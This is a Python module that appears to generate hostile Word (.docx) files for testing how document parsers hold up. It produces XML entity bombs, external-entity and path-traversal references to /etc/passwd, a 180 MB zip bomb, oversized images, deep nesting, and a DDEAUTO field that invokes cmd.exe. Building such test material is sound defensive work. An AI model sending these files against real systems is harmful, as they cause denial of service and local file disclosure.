"""Word files: parts by thousands, tables in tables, entities, pictures that swell, places elsewhere."""

from __future__ import annotations

from hostile_files.listing import LINES, naming, zeros
from hostile_files.packages import raw_zip, zero_member, zipped
from hostile_files.pictures import tiff_frames
from hostile_files.pngs import png_bomb
from hostile_files.xml_bombs import (
    ATTRIBUTES,
    DEEP,
    ENTITY_LOOP,
    EXTERNAL,
    LAUGHS,
    LAUGHS_IN_ATTRIBUTE,
    QUADRATIC,
)

_NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
named = naming("docx", ".docx")


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_LETTER = "".join(map(_p, LINES))


def _body(content: str) -> str:
    return f"<w:document {_NS}><w:body>{_LETTER}{content}</w:body></w:document>"


def _relations(rows: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def _relation(key: str, target: str, kind: str = "image", more: str = "") -> str:
    return f'<Relationship Id="{key}" Type="{_RELATION}/{kind}" Target="{target}" {more}/>'


def _docx(
    content: str = "", *, relations: str = "", members: dict[str, bytes | str] | None = None
) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": _body(content),
            "word/_rels/document.xml.rels": _relations(relations),
            **(members or {}),
        }
    )


def _main(data: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": _TYPES, "word/document.xml": data})


def _nested(depth: int, opening: str, closing: str, inner: str = "") -> bytes:
    return _docx(opening * depth + inner + closing * depth)


def _blip(key: str, width: str = "5000000") -> str:
    return f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="{width}" cy="{width}"/><a:blip r:embed="{key}"/></wp:inline></w:drawing></w:r></w:p>'


def _pictures(
    data: bytes, suffix: str, count: int = 1, width: str = "5000000", same: bool = True
) -> bytes:
    keys = [f"r{n}" for n in range(count)]
    files = {f"word/media/i{n}.{suffix}": data for n in range(1 if same else count)}
    rows = "".join(
        _relation(key, f"media/i{0 if same else n}.{suffix}") for n, key in enumerate(keys)
    )
    return _docx("".join(_blip(key, width) for key in keys), relations=rows, members=files)


def _stories(kind: str, count: int) -> bytes:
    story = f"<w:hdr {_NS}>{_LETTER}</w:hdr>"
    return _docx(members={f"word/{kind}{n}.xml": story for n in range(count)})


def _other(name: str, data: bytes | str) -> bytes:
    return _docx(members={name: data})


def _chunk(target: str, data: bytes, times: int = 1) -> bytes:
    return _docx(
        '<w:altChunk r:id="c"/>' * times,
        relations=_relation("c", target, "aFChunk"),
        members={"word/" + target: data} if ":" not in target else {},
    )


def _chunks_nested(depth: int) -> bytes:
    data = _docx()
    for _ in range(depth):
        data = _chunk("a.docx", data, 3)
    return data


def _embedded(count: int, data: bytes) -> bytes:
    return _docx(members={f"word/embeddings/o{n}.docx": data for n in range(count)})


def _embedded_nested(depth: int) -> bytes:
    data = _docx()
    for _ in range(depth):
        data = _embedded(2, data)
    return data


def _bomb(name: bytes) -> bytes:
    types = (b"[Content_Types].xml", b"", 0, 0, 0)
    return raw_zip(
        [types, zero_member(b"word/document.xml", 180_000_000, zeros(180_000_000, 32), 32)]
        + ([zero_member(name, 180_000_000, zeros(180_000_000))] if name else [])
    )


def _marked(mark: str, count: int) -> bytes:
    return _docx(f"<w:p>{mark * count}</w:p>")


_TABLE = ("<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>")
_BOX = ("<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>")
# a line a file
# fmt: off
FILES = (
    named("tables-1000", "tables 1,000 deep", _nested, 1000, *_TABLE),
    named("tables-20000", "tables 20,000 deep", _nested, 20_000, *_TABLE),
    named("boxes-deep", "text boxes 2,000 deep", _nested, 2000, *_BOX),
    named("boxes-many", "30,000 text boxes", _nested, 1, "", "", "".join(_BOX) * 30_000),
    named("runs-deep", "runs 5,000 deep", _nested, 5000, "<w:p><w:r>", "</w:r></w:p>"),
    named("smart-deep", "smart tags and changes 3,000 deep", _nested, 3000, "<w:smartTag><w:ins>", "</w:ins></w:smartTag>"),
    named("alternatives-deep", "alternatives 3,000 deep", _nested, 3000, "<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"),
    named("cells-wide", "a row of 60,000 cells", _nested, 1, "<w:tbl><w:tr>", "</w:tr></w:tbl>", "<w:tc><w:p><w:r><w:t>答</w:t></w:r></w:p></w:tc>" * 60_000),
    named("rows-long", "a table of 60,000 rows", _nested, 1, "<w:tbl>", "</w:tbl>", "<w:tr><w:tc><w:p><w:r><w:t>答</w:t></w:r></w:p></w:tc></w:tr>" * 60_000),
    named("paragraphs", "250,000 paragraphs", lambda: _docx("<w:p/>" * 250_000)),
    named("paragraph-long", "a paragraph of 900,000 characters", lambda: _docx(_p("基于" * 450_000))),
    named("runs-many", "a paragraph of 250,000 runs", _marked, "<w:r><w:t>答</w:t></w:r>", 250_000),
    named("breaks", "a paragraph of 300,000 line breaks", _marked, "<w:r><w:br/></w:r>", 300_000),
    named("symbols", "100,000 symbols", _marked, '<w:r><w:sym w:font="Wingdings" w:char="F0FE"/></w:r>', 100_000),
    named("fields", "20,000 fields that begin and never end", _marked, '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "http://192.0.2.1/x"</w:instrText></w:r>', 20_000),
    named("laughs", "entities that multiply to gigabytes", lambda: _main(LAUGHS)),
    named("laughs-attribute", "the same within an attribute", lambda: _main(LAUGHS_IN_ATTRIBUTE)),
    named("quadratic", "an entity of 50 KB used 3,000 times", lambda: _main(QUADRATIC)),
    named("entities-loop", "entities that mean each other", lambda: _main(ENTITY_LOOP)),
    named("external", "entities from a file and a server", lambda: _main(EXTERNAL)),
    named("deep", "elements 60,000 deep", lambda: _main(DEEP)),
    named("attributes", "20,000 attributes", lambda: _main(ATTRIBUTES)),
    named("noise", "a main part that is no XML", lambda: _main(b"\xff\xfe<\x00w\x00" * 999)),
    named("no-body", "a main part of another kind", lambda: _main("<html/>")),
    named("relations-laugh", "relations with entities that multiply", lambda: _other("word/_rels/document.xml.rels", LAUGHS)),
    named("relations-30000", "30,000 relations", lambda: _docx(_blip("r29999"), relations="".join(_relation(f"r{n}", "media/x.png") for n in range(30_000)))),
    named("relations-out", "pictures, template and styles on a server", lambda: _docx(_blip("r0") * 50, relations="".join(_relation(f"r{n}", "http://192.0.2.1/x.png", k, 'TargetMode="External"') for n, k in enumerate(("image", "attachedTemplate", "styles", "subDocument", "frame"))))),
    named("relations-climb", "places that climb out of the package", lambda: _docx(_blip("r0"), relations=_relation("r0", "../../../../../../etc/passwd") + _relation("r1", "file:///etc/passwd"))),
    named("relations-itself", "a picture that is the main part", lambda: _docx(_blip("r0"), relations=_relation("r0", "document.xml"))),
    named("headers-250", "250 headers, each a whole letter", _stories, "header", 250),
    named("footers-250", "250 footers, each a whole letter", _stories, "footer", 250),
    named("parts-1200", "1,200 parts nobody names", lambda: _docx(members={f"word/x{n}.bin": b"" for n in range(1200)})),
    named("comments-laugh", "comments with entities that multiply", lambda: _other("word/comments.xml", LAUGHS)),
    named("notes-deep", "footnotes 60,000 deep", lambda: _other("word/footnotes.xml", DEEP)),
    named("styles-loop", "styles that are based on each other", lambda: _other("word/styles.xml", f'<w:styles {_NS}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>')),
    named("numbering", "numbering of 2,000 levels from 10^18", lambda: _other("word/numbering.xml", f"<w:numbering {_NS}><w:abstractNum>" + '<w:lvl w:ilvl="999999999"><w:start w:val="999999999999999999"/></w:lvl>' * 2000 + "</w:abstractNum></w:numbering>")),
    named("main-bomb", "main part that unpacks to 180 MB", _bomb, b""),
    named("tiff-900", "a TIFF of 900 frames", lambda: _pictures(tiff_frames(900, 2000, 2000), "tif")),
    named("tiffs-60", "60 TIFFs of 200 frames", lambda: _pictures(tiff_frames(200, 1500, 1500), "tif", 60, same=False)),
    named("picture-8900", "a picture of 8,900 x 8,900", lambda: _pictures(png_bomb(8900, 8900), "png")),
    named("pictures-59", "59 pictures of 6,000 x 6,000", lambda: _pictures(png_bomb(6000, 6000, 1), "png", 25, same=False)),
    named("pictures-same", "one picture of 5,000 x 5,000 shown 10,000 times", lambda: _pictures(png_bomb(5000, 5000, 1), "png", 2000)),
    named("picture-width", "a picture that is shown 10^18 wide", lambda: _pictures(png_bomb(600, 600), "png", width="999999999999999999")),
    named("picture-width-0", "a picture that is shown 0 wide", lambda: _pictures(png_bomb(600, 600), "png", width="0")),
    named("picture-width-nan", "VML pictures that are NaN and 10^300 wide", lambda: _docx('<w:p><w:pict><v:shape style="width:nanpt"><v:imagedata r:id="r0"/></v:shape><v:shape style="width:1e300in"><v:imagedata r:id="r0"/></v:shape></w:pict></w:p>', relations=_relation("r0", "media/i.png"), members={"word/media/i.png": png_bomb(600, 600)})),
    named("emf", "a metafile that says it has 2^32-1 records", lambda: _pictures(b"\1\0\0\0\x6c\0\0\0" + b"\xff" * 3000, "emf")),
    named("chunk-html", "an HTML chunk 50,000 deep", lambda: _chunk("a.html", b"<div>" * 50_000)),
    named("chunk-often", "one chunk placed 5,000 times", lambda: _chunk("a.html", b"<p>x</p>" * 900, 5000)),
    named("chunk-nested", "Word in Word in Word, three times each, 9 deep", _chunks_nested, 9),
    named("chunk-out", "a chunk on a server", lambda: _chunk("http://192.0.2.1/x.html", b"")),
    named("chunk-mht", "a chunk of a mail of 5,000 parts", lambda: _chunk("a.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n" + b"--b\n\nx\n" * 5000)),
    named("embedded-200", "200 embedded documents", lambda: _embedded(200, _docx())),
    named("embedded-nested", "documents in documents, two each, 8 deep", _embedded_nested, 8),
    named("macros", "macros and a link that would start a program", lambda: _docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>", members={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(9000)})),
    named("names-twice", "two main parts of one name", lambda: zipped([("[Content_Types].xml", _TYPES), ("word/document.xml", _body("")), ("word/document.xml", LAUGHS)])),
    named("control", "text of escapes, C1 and marks of direction", lambda: _docx(_p("&#x9b;31m&#x85;&#x202e;&#x2066;&#xfeff;&#xfffd;&#x7f;"))),
)
# fmt: on
